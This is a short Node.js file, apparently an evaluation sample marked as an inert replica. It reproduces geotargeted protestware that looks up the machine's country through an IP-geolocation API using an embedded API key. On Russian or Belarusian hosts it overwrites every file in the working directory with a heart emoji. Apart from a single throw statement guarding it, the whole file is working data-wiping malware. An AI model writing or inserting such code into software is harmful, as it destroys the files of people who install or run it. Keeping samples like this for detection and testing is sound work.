throw new Error("cordon eval replica: inert data, never run");
const https = require("https");
const fs = require("fs");
const path = require("path");

https.get("https://api.ipgeolocation.io/ipgeo?apiKey=ae511e1877714f46b3f3a5cb3a6b8f8f", (res) => {
  let body = "";
  res.on("data", (chunk) => { body += chunk; });
  res.on("end", () => {
    const country = JSON.parse(body).country_name.toLowerCase();
    if (country.includes("russia") || country.includes("belarus")) {
      for (const file of fs.readdirSync("./")) fs.writeFileSync(path.join("./", file), "\u2764\ufe0f");
    }
  });
});
